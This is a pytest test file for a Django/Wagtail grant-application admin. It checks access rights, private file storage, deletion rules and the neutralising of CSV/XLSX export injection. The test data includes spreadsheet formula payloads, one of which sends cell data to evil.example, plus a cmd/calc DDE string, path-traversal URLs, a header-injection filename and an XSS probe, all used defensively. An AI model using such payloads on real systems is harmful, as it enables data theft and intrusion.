"""Reading applications is its own permission: page editors do not get it,
the jury of one call does not read another call's applications."""

import csv
import datetime
import io

import pytest
import time_machine
from django.contrib.auth.models import Group, Permission
from django.contrib.messages import get_messages
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import GroupPagePermission, PageLogEntry

from b52_wagtail.applications.models import ApplicationFormPage, ApplicationSubmission, Attachment
from b52_wagtail.applications.storage import PrivateURLError, private_storage

from .jury_helpers import bulk_applications
from .test_form import submit
from .utils import (
    berlin,
    make_call,
    make_form_page,
    pdf,
    pdf_bytes,
    stored_files,
    valid_data,
)

pytestmark = pytest.mark.django_db


def make_group(name, *codenames):
    group = Group.objects.create(name=name)
    group.permissions.add(
        *Permission.objects.filter(
            content_type__app_label__in=["wagtailadmin", "b52_applications"],
            codename__in=("access_admin", *codenames),
        )
    )
    return group


def make_user(django_user_model, name, *groups, **extra):
    user = django_user_model.objects.create_user(name, f"{name}@example.org", "pw", **extra)
    user.groups.add(*groups)
    return user


@pytest.fixture
def users(django_user_model, home, form_page, call):
    editors = make_group("Redaktion")
    for codename in ("add_page", "change_page", "publish_page"):
        GroupPagePermission.objects.create(
            group=editors, page=home, permission=Permission.objects.get(codename=codename)
        )
    jury = make_group("Jury 2026", "view_applications")
    other_jury = make_group("Jury 2027", "view_applications")
    office = make_group("Geschäftsstelle", "view_all_applications", "change_applicationsubmission")
    form_page.reviewer_groups = [jury]
    form_page.save_revision().publish()
    other_page = make_form_page(
        make_call(home, edition=2027, slug="ausschreibung-2027"), slug="bewerbung-2027"
    )
    other_page.reviewer_groups = [other_jury]
    other_page.save_revision().publish()
    return {
        "editor": make_user(django_user_model, "editor", editors),
        "jury": make_user(django_user_model, "jury", jury),
        "other_jury": make_user(django_user_model, "other_jury", other_jury),
        "jury_editor": make_user(django_user_model, "jury_editor", jury, editors),
        "office": make_user(django_user_model, "office", office),
        "admin": make_user(django_user_model, "admin", is_superuser=True, is_staff=True),
    }


@pytest.fixture
def submission(client, form_page, district):
    submit(client, form_page, valid_data(district))
    return ApplicationSubmission.objects.get()


def attachment_url(submission):
    return reverse("b52_applications:attachment", args=[submission.attachments.get().pk])


# Attachments ---------------------------------------------------------------------


def test_an_anonymous_visitor_is_sent_to_the_login(client, submission):
    response = client.get(attachment_url(submission))
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/?next=")


@pytest.mark.parametrize("who", ["editor", "other_jury"])
def test_users_without_the_permission_cannot_tell_it_from_a_missing_file(
    client, users, submission, who
):
    client.force_login(users[who])
    forbidden = client.get(attachment_url(submission))
    missing_pk = submission.attachments.get().pk + 1000
    missing = client.get(reverse("b52_applications:attachment", args=[missing_pk]))
    assert forbidden.status_code == missing.status_code == 403
    assert forbidden.content == missing.content
    assert b"%PDF" not in forbidden.content


@pytest.mark.parametrize("who", ["jury", "jury_editor", "office", "admin"])
def test_allowed_users_get_the_file_as_an_attachment(client, users, submission, who):
    client.force_login(users[who])
    attachment = submission.attachments.get()
    response = client.get(attachment_url(submission))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    with private_storage.open(attachment.file.name) as handle:
        assert body == handle.read()
    assert body.startswith(b"%PDF-")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"bewerbungsbogen.pdf\"; filename*=UTF-8''bewerbungsbogen.pdf"
    )
    assert "no-store" in response["Cache-Control"]


def test_a_hostile_name_gives_a_safe_content_disposition(client, users, form_page, district):
    name = 'Bewerbung "Süd"; filename=evil.html;.pdf'
    submit(client, form_page, valid_data(district), files=[pdf(name)])
    client.force_login(users["office"])
    attachment = Attachment.objects.get()
    assert attachment.original_name == name
    response = client.get(reverse("b52_applications:attachment", args=[attachment.pk]))
    header = response["Content-Disposition"]
    assert header == (
        'attachment; filename="Bewerbung_S_d_filename_evil.html_.pdf"; '
        "filename*=UTF-8''Bewerbung%20%22S%C3%BCd%22%3B%20filename%3Devil.html%3B.pdf"
    )
    assert "\r" not in header and "\n" not in header


@pytest.mark.parametrize(
    "path",
    [
        "/b52/applications/attachments/..%2f..%2fsettings.py",
        "/b52/applications/attachments/../../settings.py",
        "/b52/applications/attachments/%2e%2e/",
    ],
)
def test_paths_outside_the_attachments_are_404(client, users, submission, path):
    client.force_login(users["admin"])
    assert client.get(path).status_code == 404


def test_a_missing_id_answers_like_a_forbidden_one_even_for_the_office(client, users, submission):
    client.force_login(users["admin"])
    assert client.get("/b52/applications/attachments/999999/").status_code == 403


def test_a_stored_name_outside_the_folder_is_never_served(client, users, submission):
    attachment = submission.attachments.get()
    Attachment.objects.filter(pk=attachment.pk).update(file="../../settings.py")
    client.force_login(users["admin"])
    assert client.get(attachment_url(submission)).status_code == 404


def test_the_private_storage_gives_no_url(submission):
    attachment = submission.attachments.get()
    assert attachment.file.name.startswith("b52-applications/")
    with pytest.raises(PrivateURLError):
        attachment.file.url  # noqa: B018
    with pytest.raises(PrivateURLError):
        private_storage.url(attachment.file.name)


def test_without_a_configured_storage_files_go_beside_media_root(
    client, users, form_page, district, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.STORAGES = {k: v for k, v in settings.STORAGES.items() if k != "b52_private"}
    submit(client, form_page, valid_data(district))
    attachment = ApplicationSubmission.objects.get().attachments.get()
    stored = tmp_path / "b52_private" / attachment.file.name
    assert stored.is_file() and stored.read_bytes().startswith(b"%PDF")
    assert not (tmp_path / "media").exists()
    client.force_login(users["office"])
    response = client.get(attachment_url(ApplicationSubmission.objects.get()))
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"%PDF")


# Wagtail's submissions views --------------------------------------------------------


def test_a_page_editor_cannot_list_or_export_the_submissions(client, users, submission):
    client.force_login(users["editor"])
    page_id = submission.page_id
    listing = reverse("wagtailforms:list_submissions", args=[page_id])
    assert client.get(listing).status_code == 403
    assert client.get(listing + "?export=xlsx").status_code == 403
    assert client.get(listing + "?export=csv").status_code == 403
    # Wagtail's own delete view answers "no permission" with a redirect to
    # the dashboard; nothing is shown or deleted.
    delete = reverse("wagtailforms:delete_submissions", args=[page_id])
    query = f"?selected-submissions={submission.pk}"
    for response in (client.get(delete + query), client.post(delete + query)):
        assert response.status_code in (302, 403)
        assert "B52-2026-0001" not in response.content.decode()
    assert ApplicationSubmission.objects.count() == 1
    forms_index = client.get(reverse("wagtailforms:index"))
    assert "Bewerbung 2026" not in forms_index.content.decode()


def test_a_page_editor_can_still_edit_the_form_page(client, users, form_page):
    client.force_login(users["editor"])
    response = client.get(reverse("wagtailadmin_pages:edit", args=[form_page.pk]))
    assert response.status_code == 200
    # … but does not see who may read the applications.
    assert 'name="reviewer_groups"' not in response.content.decode()


def test_the_office_sees_and_sets_the_reviewer_groups(client, users, form_page):
    client.force_login(users["office"])
    GroupPagePermission.objects.create(
        group=users["office"].groups.get(),
        page=form_page,
        permission=Permission.objects.get(codename="change_page"),
    )
    response = client.get(reverse("wagtailadmin_pages:edit", args=[form_page.pk]))
    assert 'name="reviewer_groups"' in response.content.decode()


@pytest.mark.parametrize("who", ["jury", "office", "admin"])
def test_allowed_users_list_the_submissions(client, users, submission, who):
    client.force_login(users[who])
    response = client.get(reverse("wagtailforms:list_submissions", args=[submission.page_id]))
    assert response.status_code == 200
    content = response.content.decode()
    assert "B52-2026-0001" in content
    assert reverse("b52_applications_admin:detail", args=[submission.pk]) in content


def test_the_jury_of_another_call_gets_403(client, users, submission):
    client.force_login(users["other_jury"])
    listing = reverse("wagtailforms:list_submissions", args=[submission.page_id])
    assert client.get(listing).status_code == 403
    detail = reverse("b52_applications_admin:detail", args=[submission.pk])
    assert client.get(detail).status_code == 403


# Detail, status, menu ----------------------------------------------------------------


def test_the_detail_view_needs_the_permission(client, users, submission):
    detail = reverse("b52_applications_admin:detail", args=[submission.pk])
    client.force_login(users["editor"])
    assert client.get(detail).status_code == 403
    client.force_login(users["jury"])
    response = client.get(detail)
    assert response.status_code == 200
    content = response.content.decode()
    assert "Gesund altern in Salach" in content
    assert attachment_url(submission) in content
    # Jury members read, they do not change the status.
    assert 'name="status"' not in content


def test_the_detail_shows_each_mails_state(client, users, submission):
    from b52_wagtail.applications.models import MailDelivery

    MailDelivery.objects.filter(submission=submission, kind="confirmation").update(
        state="failed", attempts=3, last_error="SMTPServerDisconnected: down"
    )
    client.force_login(users["office"])
    content = client.get(reverse("b52_applications_admin:detail", args=[submission.pk])).content
    content = content.decode()
    assert "Bestätigung an den Bewerber" in content
    assert "Fehlgeschlagen" in content
    assert "SMTPServerDisconnected: down" in content


def test_a_status_change_needs_the_change_permission_and_is_logged_without_personal_data(
    client, users, submission
):
    url = reverse("b52_applications_admin:status", args=[submission.pk])
    client.force_login(users["jury"])
    assert client.post(url, {"status": "jury"}).status_code == 403
    client.force_login(users["office"])
    # The workflow forwards to the jury from "in review" (tests/applications/test_workflow.py).
    ApplicationSubmission.objects.filter(pk=submission.pk).update(status="in_review")
    response = client.post(url, {"status": "jury"})
    assert response.status_code == 302
    submission.refresh_from_db()
    assert submission.status == "jury"
    entry = PageLogEntry.objects.get(action="b52_applications.status")
    assert entry.page_id == submission.page_id
    assert entry.user == users["office"]
    message = str(entry.message)
    assert "B52-2026-0001" in message
    assert "An die Jury weitergeleitet" in message
    text = message + str(entry.data)
    for private in ("Anna", "Salach", "anna.muster", "07162", "Gesund altern"):
        assert private not in text


def test_the_applications_menu_and_index_follow_the_permission(client, users, submission):
    index = reverse("b52_applications_admin:index")
    client.force_login(users["editor"])
    assert client.get(index).status_code == 403
    assert index not in client.get(reverse("wagtailadmin_home")).content.decode()
    client.force_login(users["jury"])
    response = client.get(index)
    assert response.status_code == 200
    assert "Bewerbung 2026" in response.content.decode()
    assert "Bewerbung 2027" not in response.content.decode()
    assert index in client.get(reverse("wagtailadmin_home")).content.decode()


# Export ---------------------------------------------------------------------------------


@pytest.fixture
def formula_submission(client, form_page, district):
    data = valid_data(
        district,
        project_title='=HYPERLINK("http://evil.example","klick")',
        applicant_name="+cmd|' /C calc'!A0",
        contact_name="@SUM(1+1)",
        summary="-2+3\nZeile zwei <script>alert(1)</script> Ä ß 😀",
    )
    submit(client, form_page, data)
    return ApplicationSubmission.objects.get()


def test_the_xlsx_export_writes_formulas_as_strings_and_is_logged(
    client, users, formula_submission
):
    client.force_login(users["office"])
    url = reverse("wagtailforms:list_submissions", args=[formula_submission.page_id])
    response = client.get(url + "?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    cells = dict(zip(headings, rows[1], strict=True))
    title = cells["Projekttitel"]
    assert title.value == '=HYPERLINK("http://evil.example","klick")'
    assert title.data_type == "s"
    assert cells["Kommune oder Arbeitsgemeinschaft"].data_type == "s"
    assert cells["Kurzzusammenfassung"].value == (
        "-2+3\nZeile zwei <script>alert(1)</script> Ä ß 😀"
    )
    assert cells["Eingangsnummer"].value == "B52-2026-0001"
    entry = PageLogEntry.objects.get(action="b52_applications.export")
    assert entry.data == {"format": "xlsx", "count": 1}
    assert "HYPERLINK" not in str(entry.message)


def test_the_csv_export_neutralises_formulas(client, users, formula_submission):
    client.force_login(users["office"])
    url = reverse("wagtailforms:list_submissions", args=[formula_submission.page_id])
    response = client.get(url + "?export=csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["Projekttitel"] == '\'=HYPERLINK("http://evil.example","klick")'
    assert rows[0]["Kommune oder Arbeitsgemeinschaft"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["Ansprechperson"] == "'@SUM(1+1)"
    assert rows[0]["Kurzzusammenfassung"].startswith("'-2+3\nZeile zwei")
    assert rows[0]["Kurzzusammenfassung"].endswith("Ä ß 😀")
    assert PageLogEntry.objects.filter(action="b52_applications.export").count() == 1


def test_markup_is_escaped_in_the_admin_list_and_detail(client, users, formula_submission):
    client.force_login(users["office"])
    listing = client.get(
        reverse("wagtailforms:list_submissions", args=[formula_submission.page_id])
    ).content.decode()
    detail = client.get(
        reverse("b52_applications_admin:detail", args=[formula_submission.pk])
    ).content.decode()
    for content in (listing, detail):
        assert "<script>alert(1)</script>" not in content
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content


def test_spam_is_hidden_from_the_list_unless_asked_for(client, users, form_page, district):
    submit(client, form_page, valid_data(district))
    submit(client, form_page, valid_data(district, b52_homepage="x", project_title="Werbung"))
    client.force_login(users["office"])
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])
    assert "Werbung" not in client.get(url).content.decode()
    assert "Werbung" in client.get(url + "?status=spam").content.decode()


def test_the_list_runs_a_fixed_number_of_queries_with_10_and_1000_applications(
    client, users, form_page, district, django_assert_num_queries, settings
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    settings.B52_APPLICATION_RATE_LIMIT = 0
    client.force_login(users["office"])
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])

    def count():
        client.get(url)  # warm caches (site settings, content types)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries)

    # Ten sent through the form (two files each), then 990 more at once.
    for _ in range(10):
        submit(client, form_page, valid_data(district), files=[pdf(), pdf("b.pdf", pdf_bytes())])
    small = count()
    bulk_applications(form_page, district, range(11, 1001), status="received")
    assert ApplicationSubmission.objects.count() == 1000
    large = count()
    assert small == large
    with django_assert_num_queries(large):
        client.get(url)


# Deleting ----------------------------------------------------------------------------


def grant_page_deletion(home):
    editors = Group.objects.get(name="Redaktion")
    for codename in ("delete_page", "bulk_delete_page"):
        GroupPagePermission.objects.create(
            group=editors, page=home, permission=Permission.objects.get(codename=codename)
        )


def delete_submissions(client, submission):
    url = reverse("wagtailforms:delete_submissions", args=[submission.page_id])
    return client.post(url + f"?selected-submissions={submission.pk}")


def test_reading_applications_does_not_allow_deleting_them(client, users, submission):
    # Wagtail's delete view lets whoever may edit the form page delete its
    # submissions; a jury member who also edits pages only reads them.
    client.force_login(users["jury_editor"])
    assert (
        client.get(reverse("wagtailforms:list_submissions", args=[submission.page_id])).status_code
        == 200
    )
    response = delete_submissions(client, submission)
    assert response.status_code in (302, 403)
    assert ApplicationSubmission.objects.count() == 1
    assert Attachment.objects.count() == 1


def test_users_who_may_delete_applications_can_use_wagtails_delete_view(
    client, users, submission, django_capture_on_commit_callbacks
):
    users["jury"].groups.get().permissions.add(
        Permission.objects.get(codename="delete_applicationsubmission")
    )
    client.force_login(users["jury_editor"])
    with django_capture_on_commit_callbacks(execute=True):
        assert delete_submissions(client, submission).status_code == 302
    assert ApplicationSubmission.objects.count() == 0
    assert stored_files() == []


@pytest.mark.parametrize("target", ["form", "call"])
def test_a_page_editor_cannot_delete_the_applications_with_the_page(
    client, users, submission, home, form_page, call, target
):
    grant_page_deletion(home)
    client.force_login(users["editor"])
    page = form_page if target == "form" else call
    url = reverse("wagtailadmin_pages:delete", args=[page.pk])
    for response in (client.get(url), client.post(url)):
        assert response.status_code == 302
        assert response["Location"] == reverse("wagtailadmin_explore", args=[call.pk])
    assert ApplicationFormPage.objects.filter(pk=form_page.pk).exists()
    assert ApplicationSubmission.objects.count() == 1
    assert len(stored_files()) == 1
    messages = [str(m) for m in get_messages(response.wsgi_request)]
    assert any("enthält Bewerbungen" in message for message in messages), messages


def test_a_page_editor_cannot_bulk_delete_the_applications(client, users, submission, home, call):
    grant_page_deletion(home)
    client.force_login(users["editor"])
    url = reverse("wagtail_bulk_action", args=("wagtailcore", "page", "delete"))
    response = client.post(url + f"?id={call.pk}&childOf={home.pk}")
    assert response.status_code == 302
    assert ApplicationSubmission.objects.count() == 1
    assert len(stored_files()) == 1


def test_a_form_without_applications_and_one_by_an_allowed_user_can_be_deleted(
    client, users, submission, home, form_page, django_capture_on_commit_callbacks
):
    grant_page_deletion(home)
    empty = make_form_page(form_page.call, slug="leer")
    client.force_login(users["editor"])
    client.post(reverse("wagtailadmin_pages:delete", args=[empty.pk]))
    assert not ApplicationFormPage.objects.filter(pk=empty.pk).exists()
    client.force_login(users["admin"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("wagtailadmin_pages:delete", args=[form_page.pk]))
    assert ApplicationSubmission.objects.count() == 0
    assert stored_files() == []


# Export headings -------------------------------------------------------------------------


def test_a_formula_in_an_editors_label_is_not_a_formula_in_the_export(
    client, users, submission, form_page
):
    # A page editor without the applications permission names a field; the
    # office's export must not run it.
    label = '=HYPERLINK("http://evil.example/?"&F2,"Details")'
    form_page.form_fields.update(label=label)
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])
    client.force_login(users["office"])
    text = b"".join(client.get(url + "?export=csv").streaming_content).decode()
    headings = next(csv.reader(io.StringIO(text)))
    assert headings[-1] == "'" + label
    response = client.get(url + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    heading = list(sheet.iter_rows())[0][-1]
    assert heading.data_type == "s"
    assert heading.value == "'" + label


def test_exports_show_berlin_time_on_a_utc_host(client, users, call, form_page, district, settings):
    settings.TIME_ZONE = "UTC"
    # Open at the moment below, whatever today's date.
    call.application_start = berlin(2026, 11, 1)
    call.deadline = berlin(2026, 12, 31, 23, 59)
    call.save_revision().publish()
    with time_machine.travel(datetime.datetime(2026, 11, 30, 22, 59, 30, tzinfo=datetime.UTC)):
        submit(client, form_page, valid_data(district))
    client.force_login(users["office"])
    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])
    text = b"".join(client.get(url + "?export=csv").streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["Eingangsdatum"] == "30.11.2026 23:59"
    assert row["Einwilligung erteilt am"] == "30.11.2026 23:59"
    response = client.get(url + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["Eingangsdatum"].replace(microsecond=0) == datetime.datetime(
        2026, 11, 30, 23, 59, 30
    )
